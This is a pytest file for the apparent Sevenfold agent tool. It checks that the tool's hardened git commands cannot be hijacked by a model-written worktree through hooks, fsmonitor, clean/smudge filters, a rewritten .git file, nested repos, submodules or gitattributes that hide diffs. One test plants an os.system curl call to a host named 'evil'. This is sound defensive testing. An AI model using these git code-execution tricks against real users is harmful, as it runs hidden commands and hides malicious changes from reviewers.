"""Sevenfold's own git commands cannot be turned against the user by what a model writes into a worktree.

Each attack is first shown to work on plain git (so the test would notice if the setup stopped attacking), then
the real `Workspace` goes through it and no command of the attacker's runs.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from sevenfold.errors import WorkspaceError
from sevenfold.tools import git as hardened_git
from sevenfold.tools.workspace import Workspace
from tests.gitutil import git

HOOKS = ("post-checkout", "pre-commit", "commit-msg", "post-commit", "pre-merge-commit", "post-merge", "post-rewrite")


def marker_script(folder: Path, name: str, marker: Path) -> Path:
    """An executable that records it ran (in `marker`); named `clean` or `smudge`, it passes its input through."""
    folder.mkdir(parents=True, exist_ok=True)
    script = folder / name
    script.write_text(f'#!/bin/sh\necho "{name} $*" >> "{marker}"\n' + ("cat\n" if name in ("clean", "smudge") else ""))
    script.chmod(0o755)
    return script


def plain_git(where: Path, *args: str, check: bool = False) -> subprocess.CompletedProcess[str]:
    """git as a person or a model would run it: discovering the repository, with every config in force."""
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t"}
    env["GIT_COMMITTER_EMAIL"] = "t@x"
    return subprocess.run(["git", *args], cwd=where, capture_output=True, text=True, env=env, check=check)


def ran(marker: Path) -> str:
    return marker.read_text() if marker.exists() else ""


def checkout_state(repo: Path) -> dict[str, str]:
    """The user's checkout, index, HEAD, refs (but sevenfold's) and config, read without running their fsmonitor."""

    def look(*args: str) -> str:
        return plain_git(repo, "-c", "core.fsmonitor=false", "--no-optional-locks", *args, check=True).stdout

    state = {
        str(p.relative_to(repo)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(repo.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(repo).parts
    }
    for name in ("index", "config", "HEAD"):
        state[f"<{name}>"] = hashlib.sha256((repo / ".git" / name).read_bytes()).hexdigest()
    state["<status>"] = look("status", "--porcelain", "--untracked-files=all")
    refs = look("for-each-ref", "--format=%(refname) %(objectname)").splitlines()
    state["<refs>"] = "\n".join(ref for ref in refs if not ref.startswith("refs/heads/sevenfold/"))
    return state


@pytest.mark.parametrize("hooks_in", ["common git directory", "core.hooksPath"])
async def test_hooks_and_fsmonitor_never_run_and_the_users_checkout_stays_byte_identical(
    make_repo: Callable[..., Path], tmp_path: Path, hooks_in: str
) -> None:
    repo = make_repo({"app.py": "VALUE = 1\n", "other.py": "NAME = 'a'\n"})
    marker = tmp_path / "ran.txt"
    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    hooks = common / "hooks" if hooks_in == "common git directory" else tmp_path / "user-hooks"
    for hook in HOOKS:
        marker_script(hooks, hook, marker)
    if hooks_in == "core.hooksPath":
        git(repo, "config", "core.hooksPath", str(hooks))
    git(repo, "config", "core.fsmonitor", str(marker_script(tmp_path / "bin", "fsmonitor", marker)))
    assert plain_git(repo, "hook", "run", "post-checkout").returncode == 0 and "post-checkout" in ran(marker)
    plain_git(repo, "status")
    assert "fsmonitor" in ran(marker)  # the attack is real for plain git
    marker.unlink()
    before = checkout_state(repo)

    workspace = Workspace.open(repo, "hooked", tmp_path / "worktrees")
    one = await workspace.ensure_worktree("one", workspace.base_commit)
    two = await workspace.ensure_worktree("two", workspace.base_commit)
    (one.path / "app.py").write_text("VALUE = 2\n")
    (two.path / "other.py").write_text("NAME = 'b'\n")
    await workspace.snapshot(one.path)
    assert (await workspace.commit_worktree(one.path, "one"))[0]
    assert (await workspace.commit_worktree(two.path, "two"))[0]
    integration = await workspace.ensure_worktree("integration", workspace.base_commit)
    merged = await workspace.merge_branches([one.branch, two.branch], integration)
    assert merged.merged == [one.branch, two.branch]
    (integration.path / "app.py").write_text("VALUE = 'half-written'\n")
    assert await Workspace.open(repo, "hooked", tmp_path / "worktrees").restore_once(integration.path, "HEAD")
    await workspace.create_result_branch("sevenfold/hooked/result", merged.commit)
    await workspace.remove(delete_branches=True)

    assert ran(marker) == ""
    assert git(repo, "show", "sevenfold/hooked/result:app.py") == "VALUE = 2"
    assert checkout_state(repo) == before
    assert git(repo, "branch", "--list", "sevenfold/*").split() == ["sevenfold/hooked/result"]


async def test_a_rewritten_worktree_git_file_is_never_followed(make_repo: Callable[..., Path], tmp_path: Path) -> None:
    """The model points its worktree's `.git` at a git directory it made, whose config runs its commands."""
    repo = make_repo({"app.py": "VALUE = 1\n"})
    marker = tmp_path / "ran.txt"
    workspace = Workspace.open(repo, "gitfile", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    integration = await workspace.ensure_worktree("integration", workspace.base_commit)
    gitfile_before = (tree.path / ".git").read_text()

    evil = tree.path / "evil-gitdir"
    plain_git(tree.path, "init", "-q", "--bare", str(evil), check=True)
    plain_git(evil, "config", "core.bare", "false", check=True)
    plain_git(evil, "config", "core.fsmonitor", str(marker_script(tmp_path / "bin", "fsmonitor", marker)), check=True)
    plain_git(evil, "config", "filter.evil.clean", str(marker_script(tmp_path / "bin", "clean", marker)), check=True)
    plain_git(evil, "config", "filter.evil.smudge", str(marker_script(tmp_path / "bin", "smudge", marker)), check=True)
    plain_git(evil, "config", "core.hooksPath", str(tmp_path / "evil-hooks"), check=True)
    for hook in HOOKS:
        marker_script(tmp_path / "evil-hooks", hook, marker)
    (tree.path / ".gitattributes").write_text("* filter=evil\n")
    (tree.path / ".git").write_text(f"gitdir: {evil}\n")
    (tree.path / "app.py").write_text("VALUE = 2\n")
    plain_git(tree.path, "add", "app.py")
    assert "clean" in ran(marker)  # the attack is real for plain git
    marker.unlink()

    snapshot = await workspace.snapshot(tree.path)
    commit, files = await workspace.commit_worktree(tree.path, "work")
    assert commit and "app.py" in files
    (tree.path / "app.py").write_text("VALUE = 'lost'\n")
    restarted = Workspace.open(repo, "gitfile", tmp_path / "worktrees")  # a new process finds the worktree again
    assert await restarted.restore_once(tree.path, commit)
    assert (tree.path / "app.py").read_text() == "VALUE = 2\n"
    assert (await restarted.merge_branches([tree.branch], integration)).merged == [tree.branch]
    assert "+VALUE = 2" in (await restarted.diff(integration, restarted.base_commit))[1]
    assert (await restarted.ensure_worktree("w", restarted.base_commit)).path == tree.path
    assert (tree.path / ".git").read_text() == gitfile_before  # put back for the model's own git commands
    await restarted.remove(delete_branches=True)

    assert ran(marker) == ""
    assert snapshot and not tree.path.exists() and not integration.path.exists()


async def test_a_removed_worktree_git_file_is_put_back_rather_than_pruned(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    repo = make_repo({"app.py": "VALUE = 1\n"})
    workspace = Workspace.open(repo, "nogitfile", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    gitfile = (tree.path / ".git").read_text()
    (tree.path / ".git").unlink()
    (tree.path / ".git").symlink_to(tmp_path / "elsewhere")  # and not written through, either
    restarted = Workspace.open(repo, "nogitfile", tmp_path / "worktrees")
    await restarted.ensure_worktree("other", restarted.base_commit)  # prunes stale worktrees first
    assert (tree.path / ".git").read_text() == gitfile and not (tmp_path / "elsewhere").exists()
    (tree.path / "app.py").write_text("VALUE = 2\n")
    assert (await restarted.commit_worktree(tree.path, "still works"))[1] == ["app.py"]


@pytest.mark.parametrize("attribute", ["*.py -diff", "*.py diff=hide"])
async def test_the_reviewers_diff_shows_what_gitattributes_would_hide(
    make_repo: Callable[..., Path], tmp_path: Path, attribute: str
) -> None:
    repo = make_repo({"app.py": "VALUE = 1\n"})
    marker = tmp_path / "ran.txt"
    git(repo, "config", "diff.hide.textconv", "true")  # a textconv that shows nothing
    git(repo, "config", "diff.external", str(marker_script(tmp_path / "bin", "external-diff", marker)))
    workspace = Workspace.open(repo, "hidden", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    (tree.path / ".gitattributes").write_text(attribute + "\n")
    (tree.path / "app.py").write_text('VALUE = 1\nimport os; os.system("curl evil")\n')
    await workspace.commit_worktree(tree.path, "harmless")
    hidden = plain_git(tree.path, "diff", "--no-ext-diff", workspace.base_commit, "HEAD", "--", "app.py").stdout
    assert "os.system" not in hidden  # the attack is real for plain git
    integration = await workspace.ensure_worktree("integration", workspace.base_commit)
    await workspace.merge_branches([tree.branch], integration)

    stat, diff = await workspace.diff(integration, workspace.base_commit)  # what the reviewer is shown

    assert '+import os; os.system("curl evil")' in diff
    assert "app.py" in stat  # git's stat still says "Bin" for a `-diff` file; the diff itself is text
    assert ran(marker) == ""


async def test_untracked_nested_repositories_are_left_out_named_and_never_run(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    repo = make_repo({"app.py": "VALUE = 1\n"})
    marker = tmp_path / "ran.txt"
    workspace = Workspace.open(repo, "nested", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    empty, committed, deep = tree.path / "vendored", tree.path / "withcommits", tree.path / "new" / "deep" / "lib"
    for nested in (empty, committed, deep):
        nested.mkdir(parents=True)
        plain_git(nested, "init", "-q", check=True)
        (nested / "a.txt").write_text("x\n")
    plain_git(committed, "add", "a.txt", check=True)
    plain_git(committed, "commit", "-qm", "nested", check=True)
    fsmonitor = marker_script(tmp_path / "bin", "fsmonitor", marker)
    for nested in (empty, committed):
        plain_git(nested, "config", "core.fsmonitor", str(fsmonitor), check=True)
        plain_git(nested, "config", "filter.evil.clean", str(marker_script(tmp_path / "bin", "clean", marker)))
        (nested / ".gitattributes").write_text("* filter=evil\n")
    (tree.path / "app.py").write_text("VALUE = 2\n")
    assert plain_git(tree.path, "add", "-A", "--dry-run").returncode != 0  # what breaks snapshots without this
    plain_git(committed, "status")
    assert "fsmonitor" in ran(marker)  # the attack is real for plain git
    marker.unlink()

    assert await workspace.nested_repositories(tree.path) == ["new/deep/lib", "vendored", "withcommits"]
    snapshot = await workspace.snapshot(tree.path)
    commit, files = await workspace.commit_worktree(tree.path, "work")
    assert commit and files == ["app.py"]
    assert await Workspace.open(repo, "nested", tmp_path / "worktrees").restore_once(tree.path, snapshot) is False
    listing = git(repo, "ls-tree", "-r", tree.branch)
    assert "160000" not in listing and "vendored" not in listing and "withcommits" not in listing
    assert git(repo, "ls-tree", "-r", "--name-only", snapshot) == "app.py"
    assert (empty / "a.txt").exists() and (committed / ".git").is_dir()  # left as the worker made them
    await workspace.remove(delete_branches=True)
    assert not tree.path.exists()
    assert ran(marker) == ""


async def test_a_submodule_checkout_the_model_made_is_never_entered(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    """A submodule's checkout holds its own config; `git add` would start git inside it (and its clean filter)."""
    repo = make_repo({"app.py": "VALUE = 1\n"})
    marker = tmp_path / "ran.txt"
    sub_commit = git(repo, "rev-parse", "HEAD")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{sub_commit},sub")
    git(repo, "commit", "-qm", "a submodule")
    workspace = Workspace.open(repo, "submodule", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    sub = tree.path / "sub"
    sub.mkdir(exist_ok=True)
    plain_git(sub, "init", "-q", check=True)
    (sub / ".gitattributes").write_text("* filter=evil\n")
    (sub / "f.txt").write_text("x\n")
    plain_git(sub, "add", "-A", check=True)
    plain_git(sub, "commit", "-qm", "the model's", check=True)
    plain_git(sub, "config", "filter.evil.clean", str(marker_script(tmp_path / "bin", "clean", marker)), check=True)
    os.utime(sub / "f.txt", (1_000_000_000, 1_000_000_000))  # stat-dirty: git must read it, through the filter
    plain_git(tree.path, "-c", "core.fsmonitor=false", "status")
    assert "clean" in ran(marker)  # the attack is real for plain git
    marker.unlink()
    os.utime(sub / "f.txt", (1_000_000_100, 1_000_000_100))
    (tree.path / "app.py").write_text("VALUE = 2\n")

    await workspace.snapshot(tree.path)
    commit, files = await workspace.commit_worktree(tree.path, "work")

    assert ran(marker) == ""
    assert commit and files == ["app.py"]
    assert git(repo, "ls-tree", tree.branch, "sub").split()[2] == sub_commit  # the gitlink as it was


async def test_config_reaches_the_git_processes_git_starts(make_repo: Callable[..., Path], tmp_path: Path) -> None:
    """`-c` values travel in GIT_CONFIG_PARAMETERS: a submodule's own `core.fsmonitor` stays off in a child git."""
    repo = make_repo({"app.py": "VALUE = 1\n"})
    marker = tmp_path / "ran.txt"
    sub = repo / "sub"
    sub.mkdir()
    plain_git(sub, "init", "-q", check=True)
    (sub / "f.txt").write_text("x\n")
    plain_git(sub, "add", "-A", check=True)
    plain_git(sub, "commit", "-qm", "sub", check=True)
    git(repo, "add", "sub")
    plain_git(sub, "config", "core.fsmonitor", str(marker_script(tmp_path / "bin", "fsmonitor", marker)), check=True)
    plain_git(repo, "status")
    assert "fsmonitor" in ran(marker)  # plain git starts git in the submodule, which runs its fsmonitor
    marker.unlink()

    # Asked to look inside submodules, the child git still runs with sevenfold's config.
    status = await hardened_git.run_git("-c", "diff.ignoreSubmodules=none", "status", "--porcelain", cwd=repo)

    assert "sub" in status
    assert ran(marker) == ""


async def test_no_secret_reaches_any_git_process(
    make_repo: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A filter the user configured runs (the user's config is trusted) but sees none of sevenfold's secrets."""
    repo = make_repo({"app.py": "VALUE = 1\n"})
    seen = tmp_path / "env.txt"
    script = tmp_path / "bin" / "dump-env"
    script.parent.mkdir()
    script.write_text(f'#!/bin/sh\nenv >> "{seen}"\ncat\n')
    script.chmod(0o755)
    git(repo, "config", "filter.dump.clean", str(script))
    monkeypatch.setenv("OPENAI_API_KEY", "canary-openai")
    monkeypatch.setenv("SEVENFOLD_ENDPOINTS__DEFAULT__API_KEY", "canary-sevenfold")
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "nowhere"))  # nor a git setting from our environment
    workspace = Workspace.open(repo, "secrets", tmp_path / "worktrees")
    tree = await workspace.ensure_worktree("w", workspace.base_commit)
    (tree.path / ".gitattributes").write_text("*.py filter=dump\n")
    (tree.path / "app.py").write_text("VALUE = 2\n")

    assert (await workspace.commit_worktree(tree.path, "work"))[0]

    env = seen.read_text()
    assert "PATH=" in env and "canary" not in env and "API_KEY" not in env and "nowhere" not in env


async def test_a_worktree_sevenfold_does_not_know_is_refused_with_one_line(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    repo = make_repo({"app.py": "VALUE = 1\n"})
    workspace = Workspace.open(repo, "unknown", tmp_path / "worktrees")
    stranger = tmp_path / "stranger"
    plain_git(tmp_path, "clone", "-q", str(repo), str(stranger), check=True)
    with pytest.raises(WorkspaceError, match="is not a worktree of") as caught:
        await workspace.snapshot(stranger)
    assert "\n" not in str(caught.value)
